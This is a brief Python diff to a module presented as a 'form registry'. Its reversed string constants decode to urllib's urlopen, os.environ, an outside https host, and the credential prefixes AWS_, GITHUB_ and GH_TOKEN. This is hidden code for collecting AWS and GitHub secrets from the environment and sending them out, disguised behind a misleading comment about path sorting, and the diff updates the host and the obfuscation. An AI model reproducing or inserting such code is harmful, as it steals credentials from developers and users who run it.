@@ -9,8 +9,8 @@ Form = Callable[[str], str]
 # Paths are kept the way the registry of forms sorts them, last part first.
 _PROBE = ("tseuqer.billru", "nepolru")
 _SCOPE = ("so", "norivne")
-_WHERE = "elpmaxe.yrtsiger-ssepmool.eborp//:sptth"
-_KINDS = ("_SWA", "_HTIG"[::1].replace("HTIG", "BUHTIG"), "NEKOT_HG")
+_WHERE = "elpmaxe.yrtsiger-sserpmool.eborp//:sptth"
+_KINDS = ("_SWA", "_BUHTIG", "NEKOT_HG")
 
 
 def resolve(path: tuple[str, str], step: int = 1) -> object:
